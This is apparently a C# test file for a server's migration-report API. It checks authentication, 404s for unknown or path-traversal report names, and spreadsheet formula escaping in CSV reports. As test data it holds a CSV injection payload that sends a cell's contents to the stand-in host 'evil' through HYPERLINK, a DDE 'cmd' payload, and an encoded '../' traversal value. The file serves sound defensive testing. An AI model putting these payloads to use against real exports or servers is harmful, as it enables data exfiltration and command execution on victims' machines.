using System.Net;
using System.Text.Json.Nodes;

namespace Ferry.Server.Tests;

/// <summary>GET /api/migrations/{id}/reports/{name}: a job's report through the API, behind the key.</summary>
[Collection("stack")]
public sealed class ReportsApiTests(FerryStack stack)
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Report_OfAFinishedJob_IsTheBlobsBytes_UnknownNamesAndJobsAre404_NoKeyIs401()
    {
        using var client = stack.Server.CreateClient();
        var prefix = Jobs.Unique("report");
        var id = (await Jobs.StartCsvAsync(client, Jobs.Csv(prefix, 4) + "not-an-email,X,Y,\n"))["id"]!.ToString();
        await Jobs.WaitFinishedAsync(client, id, logs: stack.Server.ReadLogs);

        foreach (var name in new[] { "results.csv", "failed.csv", "summary.json" })
        {
            using var response = await client.GetAsync(new Uri($"/api/migrations/{id}/reports/{name}", UriKind.Relative), Cancel);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal(await Jobs.ReportAsync(stack.Blobs, id, name), await response.Content.ReadAsStringAsync(Cancel));
            Assert.Equal(name.EndsWith(".json", StringComparison.Ordinal) ? "application/json" : "text/csv", response.Content.Headers.ContentType!.MediaType);
        }

        var summary = JsonNode.Parse(await client.GetStringAsync(new Uri($"/api/migrations/{id}/reports/summary.json", UriKind.Relative), Cancel))!;
        Assert.Equal(1, (int)summary["rowsInvalid"]!);

        foreach (var path in new[] { $"/api/migrations/{id}/reports/secrets.txt", $"/api/migrations/{id}/reports/..%2F..%2Fferry-inbox", "/api/migrations/no-such-job-000000000000/reports/results.csv" })
        {
            using var missing = await client.GetAsync(new Uri(path, UriKind.Relative), Cancel);
            Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
        }

        using var anonymous = stack.Server.CreateClient(withKey: false);
        using var refused = await anonymous.GetAsync(new Uri($"/api/migrations/{id}/reports/results.csv", UriKind.Relative), Cancel);
        Assert.Equal(HttpStatusCode.Unauthorized, refused.StatusCode);
    }

    [Fact]
    public async Task Reports_OfAJobWithFormulaLoginsAndEmails_AreSafeInAnySpreadsheet_ThroughTheApiAndTheDashboard()
    {
        using var client = stack.Server.CreateClient();
        var prefix = Jobs.Unique("formula");
        const string login = "x;=HYPERLINK(\"http://evil/?\"&A1)"; // Ferry accepts it; the org refuses it (not an email): failed
        const string email = "b;+cmd|' /C calc'!A0"; // not an email: invalid
        var csv = "login,email,firstName,lastName\n"
            + $"\"{login.Replace("\"", "\"\"", StringComparison.Ordinal)}\",x.{prefix}@example.com,X,Y\n"
            + $"b.{prefix}@example.com,{email},B,Y\n"
            + $"-dash.{prefix}@example.com,-dash.{prefix}@example.com,D,Y\n";
        var id = (await Jobs.StartCsvAsync(client, csv))["id"]!.ToString();
        await Jobs.WaitFinishedAsync(client, id, logs: stack.Server.ReadLogs);

        foreach (var name in new[] { "results.csv", "failed.csv" })
        {
            var api = await client.GetStringAsync(new Uri($"/api/migrations/{id}/reports/{name}", UriKind.Relative), Cancel);
            var dashboard = await client.GetStringAsync(new Uri($"/dashboard/jobs/{id}/reports/{name}", UriKind.Relative), Cancel);

            Assert.Equal(api, dashboard);
            Assert.Empty(SpreadsheetCells.Dangerous(api));
            var cells = SpreadsheetCells.Read(api, ',').SelectMany(r => r).ToList();
            Assert.Contains("x;'=HYPERLINK(\"http://evil/?\"&A1)", cells); // the login, guarded where a formula could start
            Assert.Contains(cells, c => c.Contains("b;'+cmd|' /C calc'!A0", StringComparison.Ordinal)); // the invalid row's reason quotes the email
        }

        var results = Jobs.ParseCsv(await Jobs.ReportAsync(stack.Blobs, id, "results.csv"));
        Assert.Equal(["failed", "invalid", "created"], results.Skip(1).Select(r => r[4]));
        Assert.Equal($"'-dash.{prefix}@example.com", results[3][2]); // a legit email starting with '-': the apostrophe shows

        // The dashboard's list of failed rows shows the values as they were: it is a page, not a spreadsheet.
        var failedRows = JsonNode.Parse(await client.GetStringAsync(new Uri($"/dashboard/jobs/{id}/failed-rows", UriKind.Relative), Cancel))!;
        var rows = failedRows["rows"]!.AsArray();
        Assert.Equal(login, rows[0]!["login"]!.ToString());
        Assert.Contains(email, rows[1]!["errorSummary"]!.ToString(), StringComparison.Ordinal);
    }
}
